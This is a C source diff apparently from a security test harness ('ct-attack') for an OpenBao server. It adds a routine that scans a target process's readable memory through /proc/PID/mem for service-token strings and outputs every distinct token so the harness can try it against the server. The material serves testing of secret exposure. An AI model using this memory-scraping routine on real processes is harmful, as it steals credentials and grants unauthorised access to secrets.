@@ -159,10 +159,11 @@ static void scan_mappings(reader rd, void *ctx, int only_writable)
 		err = scan_range(rd, ctx, m->start, m->end, &sc);
 		took(0, sc.hits);
 		if (err)
-			item("\"what\":\"%s\",\"bytes\":%lu,\"hits\":%ld,\"err\":\"%s\"", m->name,
-			     sc.bytes, sc.hits, ename(err));
+			item("\"what\":\"%s\",\"bytes\":%lu,\"hits\":%ld,\"per\":%s,\"err\":\"%s\"",
+			     m->name, sc.bytes, sc.hits, per_marker(&sc), ename(err));
 		else if (sc.hits)
-			item("\"what\":\"%s\",\"bytes\":%lu,\"hits\":%ld", m->name, sc.bytes, sc.hits);
+			item("\"what\":\"%s\",\"bytes\":%lu,\"hits\":%ld,\"per\":%s", m->name,
+			     sc.bytes, sc.hits, per_marker(&sc));
 		else
 			clean++;
 	}
@@ -282,4 +283,104 @@ int v_ptrace_seize(void)
 		return finish();
 	}
 	return peek_and_detach();
+}
+
+/* ---- tokens (the hunt only) ---- */
+
+#define MAX_TOKENS 64
+#define TOKEN_LEN 26 /* "s." + 24: an OpenBao service token */
+
+static char tokens[MAX_TOKENS][TOKEN_LEN + 1];
+static int n_tokens;
+
+static int alnum(unsigned char c)
+{
+	return (c >= '0' && c <= '9') || (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z');
+}
+
+/* Token-shaped strings in p[0..n): "s." + 24 alphanumerics, not part of a
+ * longer word; each new one kept. Returns how many were seen. */
+static long find_tokens(const unsigned char *p, size_t n)
+{
+	long seen = 0;
+
+	for (size_t i = 0; i + TOKEN_LEN <= n; i++) {
+		size_t k = 2;
+
+		if (p[i] != 's' || p[i + 1] != '.' || (i > 0 && (alnum(p[i - 1]) || p[i - 1] == '.')))
+			continue;
+		while (k < TOKEN_LEN && alnum(p[i + k]))
+			k++;
+		if (k < TOKEN_LEN || (i + TOKEN_LEN < n && alnum(p[i + TOKEN_LEN])))
+			continue;
+		seen++;
+		int dup = 0;
+		for (int t = 0; t < n_tokens && !dup; t++)
+			dup = memcmp(tokens[t], p + i, TOKEN_LEN) == 0;
+		if (!dup && n_tokens < MAX_TOKENS)
+			memcpy(tokens[n_tokens++], p + i, TOKEN_LEN);
+	}
+	return seen;
+}
+
+/* Every readable mapping through /proc/PID/mem, looking for tokens: the
+ * items say where (counts), the final line's "tokens" lists each distinct
+ * one for the harness to try against the server. The one output of
+ * ct-attack that holds a credential: the harness keeps it out of every
+ * report. */
+int v_tokens(void)
+{
+	static unsigned char tmp[CHUNK];
+	struct mapping *maps = NULL;
+	int fd = open_mem(), n, clean = 0;
+	char list[MAX_TOKENS * (TOKEN_LEN + 3) + 2];
+	size_t len = 0;
+
+	if (fd < 0)
+		return finish();
+	n = read_maps(&maps);
+	if (n < 0) {
+		item_err("open maps", -n);
+		close(fd);
+		return finish();
+	}
+	for (int i = 0; i < n; i++) {
+		struct mapping *m = &maps[i];
+		long seen = 0;
+		int err = 0;
+
+		if (m->perms[0] != 'r' || strcmp(m->name, "[vsyscall]") == 0)
+			continue;
+		/* chunks overlap by a token's length: none is cut in two */
+		for (unsigned long a = m->start; a < m->end;) {
+			size_t want = m->end - a < CHUNK ? m->end - a : CHUNK;
+			ssize_t got = pread(fd, tmp, want, (off_t)a);
+
+			if (got <= 0) {
+				err = got < 0 ? errno : EIO;
+				break;
+			}
+			seen += find_tokens(tmp, (size_t)got);
+			if (a + (unsigned long)got >= m->end || (size_t)got <= TOKEN_LEN)
+				break;
+			a += (unsigned long)got - TOKEN_LEN;
+		}
+		if (err)
+			item("\"what\":\"%s\",\"token_strings\":%ld,\"err\":\"%s\"", m->name, seen,
+			     ename(err));
+		else if (seen)
+			item("\"what\":\"%s\",\"token_strings\":%ld", m->name, seen);
+		else
+			clean++;
+	}
+	item("\"what\":\"other readable mappings\",\"count\":%d,\"hits\":0", clean);
+	free(maps);
+	close(fd);
+	list[len++] = '[';
+	for (int t = 0; t < n_tokens; t++)
+		len += snprintf(list + len, sizeof(list) - len, "%s\"%s\"", t ? "," : "", tokens[t]);
+	snprintf(list + len, sizeof(list) - len, "]");
+	fact("\"tokens\":%s", list);
+	explicit_bzero(tokens, sizeof(tokens));
+	return finish();
 }
